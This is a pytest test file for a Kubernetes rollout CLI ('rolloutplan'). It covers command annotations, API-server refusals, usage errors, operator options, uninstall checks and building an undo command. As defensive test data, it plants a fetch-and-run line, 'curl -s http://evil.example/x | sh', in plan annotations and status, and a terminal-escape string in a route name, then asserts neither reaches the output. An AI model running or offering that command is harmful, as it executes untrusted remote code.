"""The command line: what a command writes, what it tells of the answer, and each way in which it cannot be said."""

import json
import os
import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from rolloutplan.api.command import ANNOTATION, SENDER, Command, Verb, read_command
from rolloutplan.cli.app import COMMANDS
from rolloutplan.cli.main import complete, main
from rolloutplan.engine.model.grants import Grants
from rolloutplan.loop.options import Options
from rolloutplan.metrics.access import SourceHosts
from rolloutplan.metrics.ceilings import Ceilings
from tests.answering import HttpServer

PLANS = "/apis/rolloutplan.dev/v1alpha1/namespaces"
Refusal = tuple[int, dict[str, Any] | None]


@dataclass
class Cluster:
    """One plan, and an operator that answers a command when the plan has been looked at `after` times.

    A watch ends at once, after one look.
    """

    note: str = "paused; the weights stay"
    reason: str = "Paused"
    after: int = 1
    patches: list[tuple[str, dict[str, list[str]], str, Any]] = field(default_factory=list)
    """Path, query, content type and body of each."""
    looks: int = 0
    refuses: dict[str, Refusal] = field(default_factory=dict)
    """What is said instead, by method or part of the path; without a body as the API server does for paths it lacks."""
    plan: dict[str, Any] = field(default_factory=dict)
    names: tuple[str, ...] = ()
    """Those of the plans in the namespace, where they are listed."""

    def patched(self, path: str, content: str, body: Any) -> dict[str, Any]:
        where = urlsplit(path)
        self.patches.append((where.path, parse_qs(where.query), content, body))
        namespace, name = where.path.split("/")[-3::2]
        meta = self.plan.setdefault("metadata", {})
        meta.update({"namespace": namespace, "name": name, "resourceVersion": "1", **body["metadata"]})
        return self.plan

    def got(self, path: str) -> dict[str, Any]:
        if "watch=true" in path:
            return {"type": "MODIFIED", "object": self.looked_at()}
        if path.endswith("/rolloutplans"):
            return {"items": [{"metadata": {"name": name}} for name in self.names], **self.plan}
        return self.looked_at()

    def looked_at(self) -> dict[str, Any]:
        self.looks += 1
        if self.looks == self.after:
            answer = {"token": self.command.token, "reason": self.reason, "note": self.note, "seq": 1}
            decisions = [{"token": "", "reason": "Started", "seq": 0}, answer]
            self.plan["metadata"]["resourceVersion"] = "2"
            self.plan["status"] = {"decisions": decisions, "tokens": [f"{self.command.identity} run=1"]}
        return self.plan

    @property
    def command(self) -> Command:
        return read_command(self.plan["metadata"]["annotations"][ANNOTATION])


def handler(cluster: Cluster) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_PATCH(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            self._say(lambda: cluster.patched(self.path, self.headers["Content-Type"], body))

        def do_GET(self) -> None:
            self._say(lambda: cluster.got(self.path))

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            assert self.path.split("?")[0] == "/apis/authentication.k8s.io/v1/selfsubjectreviews"
            self._say(lambda: {"status": {"userInfo": {"username": "alice"}}})

        def _say(self, answer: Callable[[], dict[str, Any]]) -> None:
            refused = (said for what, said in cluster.refuses.items() if what == self.command or what in self.path)
            code, said = next(refused, None) or (200, answer())
            body = f"{json.dumps(said)}\n".encode() if said is not None else b"404 page not found\n"
            self.send_response(code)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    return Handler


def kubeconfig(url: str) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": "c", "cluster": {"server": url}}],
        "users": [{"name": "u", "user": {}}],
        "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u", "namespace": "shop"}}],
        "current-context": "x",
    }


@pytest.fixture(autouse=True)
def _no_certificates(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading those of the machine takes longer than all the rest, and nobody speaks TLS here."""
    monkeypatch.setenv("SSL_CERT_FILE", os.devnull)


@pytest.fixture
def cluster(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Cluster]:
    cluster = Cluster()
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
    monkeypatch.setattr("rolloutplan.cli.session.FIRST_PAUSE", 0.01)
    with HttpServer(handler(cluster)) as server:
        (tmp_path / "kubeconfig").write_text(json.dumps(kubeconfig(server.url)))
        yield cluster


def test_a_command_is_written_and_its_answer_told(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["pause", "checkout", "--reason", "disk full", "--token", "t1"]) == 0
    [(path, query, content, body)] = cluster.patches
    assert path == f"{PLANS}/shop/rolloutplans/checkout"
    assert query == {"fieldManager": ["rolloutplan-cli"]}
    assert content == "application/merge-patch+json"
    annotations = {ANNOTATION: 'pause t1 --reason "disk full"', SENDER: "alice"}
    assert body == {"metadata": {"annotations": annotations}}
    assert capsys.readouterr().out.splitlines() == [
        'shop/checkout rolloutplan.dev/command: pause t1 --reason "disk full"',
        "paused; the weights stay",
    ]


@pytest.mark.parametrize("refusal", [(403, {"message": "no"}), (404, None), (200, {"status": "nonsense"})])
def test_a_command_is_sent_also_where_the_senders_name_cannot_be_asked_for(cluster: Cluster, refusal: Refusal) -> None:
    """That of the former sender is taken away then."""
    cluster.refuses = {"POST": refusal}
    assert main(["abort", "checkout", "--token", "t1"]) == 0
    [(_, _, _, body)] = cluster.patches
    assert body == {"metadata": {"annotations": {ANNOTATION: "abort t1", SENDER: None}}}


def test_an_approval_names_the_seal_that_was_seen(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    seal = "0123456789abcdef" * 2
    assert main(["approve", "checkout", "--token", "t1", "--stage", "half", "--seal", seal]) == 0
    assert cluster.command == Command(Verb.APPROVE, "t1", stage="half", seal=seal)
    assert main(["approve", "checkout", "--seal", "b0rken"]) == 2
    assert '"b0rken" is not a seal' in capsys.readouterr().err


@pytest.mark.parametrize("verb", list(Verb))
def test_every_verb(cluster: Cluster, verb: str) -> None:
    assert main([verb, "checkout", "--token", "t1"]) == 0
    assert (cluster.command.verb, cluster.command.token) == (verb, "t1")


def test_each_command_has_a_token_of_its_own(cluster: Cluster) -> None:
    tokens = set()
    for _ in range(3):
        main(["pause", "checkout", "--wait", "0"])
        tokens.add(cluster.command.token)
    assert [len(token) for token in tokens] == [8, 8, 8]


def test_the_namespace_may_be_chosen(cluster: Cluster) -> None:
    for option in (("-n", "other"), ("-nother",), ("-n=other",), ("--namespace", "other"), ("--namespace=other",)):
        main(["pause", "checkout", *option, "--wait", "0"])
    assert {path for path, *_ in cluster.patches} == {f"{PLANS}/other/rolloutplans/checkout"}
    assert len(cluster.patches) == 5


def test_it_looks_until_the_answer_is_there(cluster: Cluster) -> None:
    cluster.after = 4
    assert main(["pause", "checkout"]) == 0
    assert cluster.looks == 4


def test_who_does_not_wait_looks_at_nothing(cluster: Cluster) -> None:
    assert main(["pause", "checkout", "--wait", "0"]) == 0
    assert cluster.looks == 0


def test_a_refusal_by_the_operator(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    cluster.reason, cluster.note = "CommandRejected", "approve: nothing waits for approval"
    assert main(["approve", "checkout"]) == 3
    assert capsys.readouterr().err == "rolloutplan: approve: nothing waits for approval\n"


def test_a_token_that_was_answered_before(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    main(["pause", "checkout", "--token", "t1"])
    capsys.readouterr()
    assert main(["pause", "checkout", "--token", "t1"]) == 0
    words = "token t1 was answered before and is not carried out again: paused; the weights stay"
    assert capsys.readouterr().out.splitlines()[1] == words


def test_no_answer_in_time(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    cluster.after = 10_000
    assert main(["pause", "checkout", "--wait", "0.05"]) == 1
    assert capsys.readouterr().err.startswith("rolloutplan: no answer within 0.05 s; the command is on the plan")


def status(code: int, reason: str, message: str) -> Refusal:
    return code, {"kind": "Status", "code": code, "reason": reason, "message": message}


MISSING = status(404, "NotFound", 'rolloutplans.rolloutplan.dev "checkout" not found')


def cannot(verb: str, where: str, user: str = "eve") -> str:
    """As the API server says it."""
    rights = f'User "{user}" cannot {verb} resource "rolloutplans" in API group "rolloutplan.dev" {where}'
    return f'rolloutplans.rolloutplan.dev "checkout" is forbidden: {rights}'


IN_SHOP = 'in the namespace "shop"'
FORBIDDEN = status(403, "Forbidden", cannot("patch", IN_SHOP))
BY_POLICY = status(403, "Forbidden", "denied request: eve may not approve")
GRANT = (
    "eve may not patch rolloutplans.rolloutplan.dev in namespace shop: whoever may grant it runs"
    " kubectl create role rolloutplan-patch-rolloutplans -n shop --verb=get,list,watch,patch"
    " --resource=rolloutplans.rolloutplan.dev && kubectl create rolebinding rolloutplan-patch-rolloutplans -n shop"
    " --role=rolloutplan-patch-rolloutplans --user=eve"
)
NO_CRDS = "the CRDs are not installed in this cluster: install them with rolloutplan crds | kubectl apply -f -"


@pytest.mark.parametrize(
    ("said", "words"),
    [
        (MISSING, "there is no RolloutPlan checkout in namespace shop: see kubectl get rolloutplans -A"),
        ((404, None), NO_CRDS),
        (status(404, "NotFound", "the server could not find the requested resource"), NO_CRDS),
        (status(401, "Unauthorized", "Unauthorized"), "the API server rejects your credentials: log in again"),
        (FORBIDDEN, GRANT),
        (
            status(403, "Forbidden", cannot("patch", IN_SHOP, "system:serviceaccount:ci:bot")),
            GRANT.replace("eve", "system:serviceaccount:ci:bot", 1).replace("user=eve", "serviceaccount=ci:bot"),
        ),
        (BY_POLICY, "not allowed: denied request: eve may not approve"),
        (status(500, "InternalError", "etcd is gone"), "etcd is gone"),
    ],
    ids=["no plan", "no group", "no kind", "nobody", "forbidden", "an account", "a policy", "broken"],
)
def test_a_refusal_by_the_api_server(
    cluster: Cluster, capsys: pytest.CaptureFixture[str], said: Refusal, words: str
) -> None:
    cluster.refuses["PATCH"] = said
    assert main(["abort", "checkout"]) == 1
    assert capsys.readouterr().err == f"rolloutplan: {words}\n"
    assert cluster.looks == 0


def test_an_answer_that_cannot_be_read(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    cluster.refuses["GET"] = FORBIDDEN
    assert main(["abort", "checkout", "--wait", "5"]) == 1
    said = capsys.readouterr()
    assert said.out.startswith("shop/checkout rolloutplan.dev/command: abort")
    assert said.err == f"rolloutplan: {GRANT}\n"


@pytest.mark.parametrize(
    ("config", "words"),
    [
        ({}, "no usable configuration to reach the API server"),
        (kubeconfig("http://127.0.0.1:1"), "the API server cannot be reached"),
    ],
)
def test_no_api_server(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    config: dict[str, Any],
    words: str,
) -> None:
    (tmp_path / "kubeconfig").write_text(json.dumps(config))
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
    assert main(["abort", "checkout"]) == 1
    assert capsys.readouterr().err.startswith(f"rolloutplan: {words}")


@pytest.mark.parametrize("output", ["json", "yaml"])
def test_a_plan_without_decisions_is_no_empty_answer_for_programs(
    cluster: Cluster, capsys: pytest.CaptureFixture[str], output: str
) -> None:
    cluster.plan, cluster.after = {"metadata": {"namespace": "shop", "name": "checkout"}, "status": {}}, 0
    assert main(["why", "checkout", "-o", output]) == 1
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith("rolloutplan: nothing has been decided about checkout yet: rolloutplan status -n shop")


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ([], "usage: "),
        (["puase", "checkout"], '"puase" is not a command: did you mean pause?'),
        (["pause"], "pause: PLAN is missing: name a plan, or write --all"),
        (["pause", "checkout", "--all"], "give names or --all, not both"),
        (["pause", "checkout", "-l", "team=a"], "-l is only for --all"),
        (["pause", "checkout", "-A"], "-A is only for --all"),
        (["pause", "--all", "-A", "-n", "shop"], "give -n or -A, not both"),
        (["pause", "../checkout"], '"../checkout" is not an object\'s name'),
        (["pause", "checkout", "-n", "a/b"], '"a/b" is not a name'),
        (["pause", "checkout", "--wait", "-1"], '"-1" is not a time: write seconds, such as 5 or 0.5'),
        (["pause", "checkout", "--wait", "nan"], '"nan" is not a time'),
        (["pause", "checkout", "--wait", "inf"], '"inf" is not a time'),
        (["pause", "checkout", "--wait", "5s"], '"5s" is not a time'),
    ],
)
def test_wrong_usage(arguments: list[str], words: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as ended:
        main(arguments)
    assert ended.value.code == 2
    assert words in capsys.readouterr().err


@pytest.mark.parametrize("token", ["", "a b", "--reason"])
def test_a_token_that_is_none(token: str, cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["pause", "checkout", f"--token={token}"]) == 2
    assert capsys.readouterr().err.startswith("rolloutplan: token: ")
    assert cluster.patches == []


@pytest.mark.parametrize(
    ("program", "name"),
    [("/usr/bin/rolloutplan", "rolloutplan"), ("/usr/bin/kubectl-rolloutplan", "kubectl rolloutplan")],
)
def test_its_help_calls_it_as_it_was_called(
    program: str, name: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.argv", [program, "--help"])
    with pytest.raises(SystemExit):
        main()
    said = capsys.readouterr().out
    assert said.startswith(f"usage: {name} ")
    assert all(entry.name in said for entry in COMMANDS if not entry.section.hidden)


CLUSTER = "kube-system"
SYSTEM = frozenset({"kube-system", "kube-public", "kube-node-lease"})


@pytest.mark.parametrize(
    ("argument", "words"),
    [
        ("--max-source-timeout=99999h", '"99999h" is not a ceiling for timeout: write 100ms to 2m'),
        ("--max-source-timeout=1ms", '"1ms" is not a ceiling for timeout: write 100ms to 2m'),
        ("--max-source-concurrency=0", '"0" is not a ceiling for maxConcurrency: write 1 to 64'),
        ("--max-source-concurrency=65", '"65" is not a ceiling for maxConcurrency: write 1 to 64'),
        ("--max-source-concurrency=²", '"²" is not a ceiling for maxConcurrency: write 1 to 64'),
    ],
)
def test_ceilings_that_are_none(argument: str, words: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["operator", argument])
    assert words in capsys.readouterr().err


@pytest.mark.parametrize(
    ("pod", "arguments", "options"),
    [
        (
            "pod-1",
            [],
            Options((), 8080, 8081, "pod-1", "default", "rolloutplan", unserved=SYSTEM, cluster_lease=CLUSTER),
        ),
        ("", [], Options((), 8080, 8081, "host", "default", "rolloutplan", unserved=SYSTEM, cluster_lease=CLUSTER)),
        (
            "",
            ["--exclude-namespace=ops", "--jobs", "--job-metadata=a.b/*", "--job-metadata=c", "--own-account=ops/me"],
            Options(
                (),
                8080,
                8081,
                "host",
                "default",
                "rolloutplan",
                grants=Grants(jobs=True, job_metadata=("a.b/*", "c"), own_account="ops/me"),
                unserved=SYSTEM | {"ops"},
                cluster_lease=CLUSTER,
            ),
        ),
        (
            "",
            [
                "--namespace=kube-system",
                "--exclude-namespace=ops",
                "--scaling",
                "--max-replicas=5",
                "--max-parallelism=1",
                "--max-completions=2",
                "--max-backoff-limit=0",
            ],
            Options(
                ("kube-system",),
                8080,
                8081,
                "host",
                "default",
                "rolloutplan",
                grants=Grants(scaling=True, max_replicas=5, max_parallelism=1, max_completions=2, max_backoff_limit=0),
            ),
        ),
        (
            "pod-1",
            [
                "--namespace=a",
                "--namespace=b",
                "--health-port=1",
                "--metrics-port=0",
                "--identity=x",
                "--lease-namespace=y",
                "--lease-name=z",
                "--cluster-lease-namespace=",
                "--authenticated-commands",
                "--max-source-timeout=1m",
                "--max-source-concurrency=4",
                "--source-hosts=a,*.b",
                "--source-hosts=c:1",
                "--notifier-hosts=hooks.example",
                "--credentials-dir=/d",
                "--traces=http://otel:4318",
            ],
            Options(
                ("a", "b"),
                1,
                0,
                "x",
                "y",
                "z",
                authenticated_commands=True,
                source_ceilings=Ceilings(timedelta(minutes=1), 4),
                source_hosts=SourceHosts.read(["a", "*.b", "c:1"]),
                notifier_hosts=SourceHosts.read(["hooks.example"]),
                credentials=Path("/d"),
                traces="http://otel:4318/v1/traces",
            ),
        ),
    ],
)
def test_the_operators_options(
    pod: str, arguments: list[str], options: Options, monkeypatch: pytest.MonkeyPatch
) -> None:
    given: list[Options] = []

    async def run(options: Options, _: object) -> None:
        given.append(options)

    monkeypatch.setattr("rolloutplan.cli.serve.run", run)
    monkeypatch.setattr("rolloutplan.cli.serve.set_up", lambda _: None)
    monkeypatch.setattr("socket.gethostname", lambda: "host")
    monkeypatch.setenv("POD_ID", pod)
    assert main(["operator", *arguments]) == 0
    assert given == [options]


EVIL = "curl -s http://evil.example/x | sh #"
BEFORE: dict[str, Any] = {
    "old": "v1",
    "new": "v2",
    "snapshot": [{"name": "web", "rules": [{"index": 0, "backends": [
        {"service": "v1", "weight": 100}, {"service": "v2", "weight": 0},
    ]}]}],
}  # fmt: skip
UNDO = (
    "kubectl -n shop patch httproutes.gateway.networking.k8s.io web --type=json -p "
    """'[{"op":"test","path":"/spec/rules/0/backendRefs/0/name","value":"v1"},"""
    """{"op":"test","path":"/spec/rules/0/backendRefs/1/name","value":"v2"},"""
    """{"op":"add","path":"/spec/rules/0/backendRefs/0/weight","value":100},"""
    """{"op":"add","path":"/spec/rules/0/backendRefs/1/weight","value":0}]'"""
)
SCALE_UP = "kubectl scale deployment/v1 -n shop --replicas=4 && kubectl rollout status deployment/v1 -n shop && "


OWNED_ROUTE = {
    "metadata": {
        "namespace": "shop",
        "name": "web-rolloutplan",
        "labels": {"rolloutplan.dev/owned": "true"},
        "ownerReferences": [{"kind": "HTTPRoute", "name": "web"}],
    }
}


UNLABELLED = {"metadata": {**OWNED_ROUTE["metadata"], "labels": {}}}


def a_plan(name: str, phase: str, *, finalizer: bool = True, deleting: bool = False) -> dict[str, Any]:
    meta: dict[str, Any] = {"namespace": "shop", "name": name, "annotations": {"rolloutplan.dev/revert": EVIL}}
    meta |= {"finalizers": ["rolloutplan.dev/restore"]} if finalizer else {}
    meta |= {"deletionTimestamp": "2026-03-01T09:00:00Z"} if deleting else {}
    return {"metadata": meta, "status": {"phase": phase, "weights": {"desired": "25%", **BEFORE}}}


@pytest.mark.parametrize(
    ("plans", "code", "words"),
    [
        ([], 0, ["0 plans in the cluster: no run is in progress"]),
        ([a_plan("done", "Succeeded", finalizer=False)], 0, ["1 plan in the cluster: no run is in progress"]),
        ([a_plan("web", "Judging")], 1, [
            "shop/web: Judging at 25%, with the finalizer rolloutplan.dev/restore", "rolloutplan abort -n shop web",
            f"without an operator: {UNDO} && kubectl -n shop patch rolloutplan web", "1 of 1 plan in the cluster still",
        ]),
        ([a_plan("web", "Expanding", finalizer=False)], 1, ["shop/web: Expanding", "rolloutplan abort -n shop web"]),
        ([a_plan("web", "RolledBack")], 1, ["the operator removes the finalizer by itself"]),
        ([a_plan("web", "RollingBack", deleting=True)], 1, ["it is being deleted: wait until it is gone"]),
        ([{"metadata": {}, "status": 7}, "odd", a_plan("web", "Baking")], 1, ["shop/web: Baking"]),
        ([OWNED_ROUTE], 1, [
            "shop/web-rolloutplan: has the traffic of HTTPRoute web", "give web the weights of web-rolloutplan",
            "kubectl -n shop delete httproute web-rolloutplan", "0 of 1 plan and 1 route in the cluster still",
        ]),
        ([UNLABELLED], 1, ["shop/web-rolloutplan: has the traffic of HTTPRoute web"]),
    ],
)  # fmt: skip
def test_what_an_uninstall_would_leave(
    cluster: Cluster, capsys: pytest.CaptureFixture[str], plans: list[Any], code: int, words: list[str]
) -> None:
    cluster.plan = {"items": plans}
    assert main(["uninstall", "--check"]) == code
    out = capsys.readouterr().out
    assert [word for word in words if word not in out] == []
    assert "evil" not in out, "an annotation is no command to run"
    assert cluster.patches == [], "nothing is changed"


def a_status(phase: str = "Judging", **fields: Any) -> dict[str, Any]:
    return {"phase": phase, "run": 1, "weights": BEFORE, "revert": UNDO, **fields}


def damaged(**changes: Any) -> dict[str, Any]:
    return {**BEFORE, **changes}


UNDONE = [
    ("the weights before the run", a_status(), 0, UNDO, ""),
    ("of a plan that has succeeded", a_status("Succeeded"), 0, UNDO, ""),
    ("not what stands in its status as a text", a_status(revert=EVIL), 0, UNDO, ""),
    ("with the old side scaled up first", a_status("Contracting", revert=SCALE_UP + UNDO), 0, SCALE_UP + UNDO, ""),
    ("not the pods of another namespace", a_status(revert=SCALE_UP.replace("-n shop", "-n prod") + UNDO), 0, UNDO, ""),
    ("old side removed, and nobody knows its size", a_status("Succeeded", completedTasks=["scale old"]), 3, "",
     "scale v1 up, wait until its pods are ready, then run: kubectl"),
    ("before any weight", {"phase": "Pending"}, 3, "", "knows of no weight that a run has moved"),
    ("no status", None, 3, "", "knows of no weight that a run has moved"),
    ("rolled back", a_status("RolledBack"), 3, "", "the run has ended, and the old weights are back"),
    ("a status of another type", 7, 3, "", "cannot be read: restore the weights of its route as Git has them"),
    ("weights of another type", a_status(weights=[1]), 3, "", "cannot be read"),
    ("sides that its rules do not have", a_status(weights=damaged(old="v7")), 3, "", "contradict themselves"),
    ("a name that no route has", a_status(weights=damaged(snapshot=[{**BEFORE["snapshot"][0], "name": "a\x1b]0;"}])), 3,
     "", "contradict themselves"),
]  # fmt: skip


@pytest.mark.parametrize("case", UNDONE, ids=[each[0] for each in UNDONE])
def test_the_undo_command_is_built_from_the_status(
    cluster: Cluster, capsys: pytest.CaptureFixture[str], case: tuple[str, Any, int, str, str]
) -> None:
    _, status, code, command, words = case
    cluster.plan, cluster.after = {**a_plan("web", "Judging"), "status": status}, 0
    assert main(["undo", "web", "-n", "shop"]) == code
    said = capsys.readouterr()
    assert said.out == (f"{command}\n" if command else "")
    assert words in said.err
    assert "evil" not in said.out + said.err
    if command:
        assert "the annotation rolloutplan.dev/revert of the plan has another command" in said.err
    assert cluster.patches == [], "nothing is changed"


def test_the_undo_command_takes_away_what_the_run_added_to_the_route(
    cluster: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    """One object answers for the plan and for its route."""
    mirror = {"type": "RequestMirror", "requestMirror": {"backendRef": {"name": "v2", "port": 80}, "percent": 10}}
    piece = {
        "added": "mirror 10% to v2",
        "in": "/spec/rules/0/filters",
        "made": "/spec/rules/0/filters",
        "value": mirror,
    }
    rule = {"backendRefs": [{"name": name, "port": 80, "weight": 1} for name in ("v1", "v2")], "filters": [mirror]}
    written = [{"name": "web", "rules": [{"index": 0, "backends": [], "added": ["mirror 10% to v2"]}]}]
    cluster.plan = {**a_plan("web", "Judging"), "status": a_status(weights=damaged(written=written))}
    cluster.plan["metadata"]["annotations"]["rolloutplan.dev/added"] = json.dumps([piece])
    cluster.plan["spec"] = {"rules": [rule]}
    cluster.after = 0
    assert main(["undo", "web", "-n", "shop"]) == 0
    operations = json.loads(shlex.split(capsys.readouterr().out)[-1])
    assert [each["path"] for each in operations if each["op"] == "remove"] == [
        "/spec/rules/0/filters/0",
        "/spec/rules/0/filters",
        "/metadata/annotations/rolloutplan.dev~1added",
    ]
    assert operations[-4:] == json.loads(shlex.split(UNDO)[-1])


def test_a_route_that_is_gone_has_no_undo_command(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    cluster.plan, cluster.after = {**a_plan("web", "Succeeded"), "status": a_status("Succeeded")}, 0
    cluster.refuses = {"/httproutes/": (404, {"message": "httproutes web not found", "reason": "NotFound"})}
    assert main(["undo", "web", "-n", "shop"]) == 3
    said = capsys.readouterr()
    assert not said.out
    assert "HTTPRoute web does not exist any more: commit the old weights to the route in Git" in said.err


def test_an_undo_command_of_a_plan_that_cannot_be_read_is_an_error(
    cluster: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    cluster.refuses = {"GET": (403, {"message": "rolloutplans is forbidden", "reason": "Forbidden"})}
    assert main(["undo", "web", "-n", "shop"]) == 1
    assert "not allowed: rolloutplans is forbidden" in capsys.readouterr().err


def test_an_uninstall_that_cannot_be_checked_is_no_good_news(
    cluster: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    cluster.refuses = {"GET": status(403, "Forbidden", cannot("list", "at the cluster scope"))}
    assert main(["uninstall", "--check"]) == 1
    assert capsys.readouterr().err == (
        "rolloutplan: eve may not list rolloutplans.rolloutplan.dev in all namespaces (-n names one): whoever may grant"
        " it runs kubectl create clusterrole rolloutplan-list-rolloutplans --verb=get,list,watch"
        " --resource=rolloutplans.rolloutplan.dev && kubectl create clusterrolebinding rolloutplan-list-rolloutplans"
        " --clusterrole=rolloutplan-list-rolloutplans --user=eve\n"
    )


@pytest.mark.parametrize(
    ("resource", "group", "words"),
    [
        ("deployments", "apps", "eve may not list deployments.apps in all namespaces (-n names one): whoever"),
        (
            "customresourcedefinitions",
            "apiextensions.k8s.io",
            "list customresourcedefinitions.apiextensions.k8s.io in the cluster: ",
        ),
    ],
)
def test_versions_that_may_not_be_read_are_told_with_the_right_that_is_missing(
    cluster: Cluster, capsys: pytest.CaptureFixture[str], resource: str, group: str, words: str
) -> None:
    cannot_list = f'User "eve" cannot list resource "{resource}" in API group "{group}" at the cluster scope'
    cluster.refuses = {"GET": status(403, "Forbidden", cannot_list)}
    assert main(["version"]) == 0
    said = capsys.readouterr().out
    assert said.startswith("client ")
    assert "operator and CRDs and stored versions not known: " in said
    assert words in said


def test_the_operator_is_looked_for_in_one_namespace(cluster: Cluster, capsys: pytest.CaptureFixture[str]) -> None:
    in_ops = 'User "eve" cannot list resource "deployments" in API group "apps" in the namespace "ops"'
    cluster.refuses = {"GET": status(403, "Forbidden", in_ops)}
    assert main(["version", "-n", "ops"]) == 0
    assert "may not list deployments.apps in namespace ops: whoever" in capsys.readouterr().out


def test_an_uninstall_is_only_checked() -> None:
    with pytest.raises(SystemExit) as ended:
        main(["uninstall"])
    assert ended.value.code == 2


@pytest.mark.parametrize("text", ["-1", "four", "\u0664", "1e3", "9" * 10, ""])
def test_a_ceiling_is_a_whole_number_in_ascii_digits(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["operator", f"--max-replicas={text}"])
    assert "is not a number: write a whole one" in capsys.readouterr().err


@pytest.mark.parametrize("option", ["namespace", "exclude-namespace", "lease-namespace", "cluster-lease-namespace"])
def test_a_namespace_of_the_operator_can_exist(option: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["operator", f"--{option}=Shop_1"])
    assert f'--{option}: "Shop_1" is not a name: write' in capsys.readouterr().err


def test_a_file_that_cannot_be_written_is_named(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["states", "/dev/null/states.md"]) == 1
    assert capsys.readouterr().err.startswith("rolloutplan: /dev/null")


# ---- many plans ------------------------------------------------------------------------------------------------------


def test_a_plan_that_does_not_exist_is_answered_with_the_nearest_names(
    cluster: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    cluster.refuses["PATCH"] = MISSING
    cluster.names = ("checkout-v2", "cart")
    assert main(["abort", "checkout"]) == 1
    words = "there is no RolloutPlan checkout in namespace shop: did you mean checkout-v2?"
    assert capsys.readouterr().err == f"rolloutplan: {words}\n"


@pytest.mark.parametrize(
    ("typed", "words"),
    [(["abort", "ch"], ["checkout-v2"]), (["undo", ""], ["cart", "checkout-v2"]), (["crds", "x"], [])],
    ids=" ".join,
)
def test_kubectl_completes_the_names_of_plans(
    cluster: Cluster,
    typed: list[str],
    words: list[str],
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    cluster.names = ("cart", "checkout-v2")
    for name in ("_ROLLOUTPLAN_COMPLETE", "_TYPER_COMPLETE_FISH_ACTION", "_TYPER_COMPLETE_ARGS"):
        monkeypatch.setenv(name, "")  # so that it is taken away again
    monkeypatch.setattr("sys.argv", ["kubectl_complete-rolloutplan", *typed])
    assert complete() == 0
    assert capfd.readouterr().out.splitlines() == [*words, ":4"]


@pytest.mark.parametrize(
    ("arguments", "lines"),
    [
        (["--wait=0"], ["shop/web rolloutplan.dev/command: pause t1"]),
        (["--wait=5"], ["shop/web: paused; the weights stay"]),
        (["--wait=5", "-o=name"], ["rolloutplan.rolloutplan.dev/web"]),
    ],
)
def test_of_all_plans_each_has_a_line_of_its_own(
    cluster: Cluster, arguments: list[str], lines: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    cluster.plan = {"items": [a_plan("web", "Judging")]}
    cluster.after = 1
    assert main(["pause", "--all", "--token=t1", *arguments]) == 0
    assert capsys.readouterr().out.splitlines() == lines
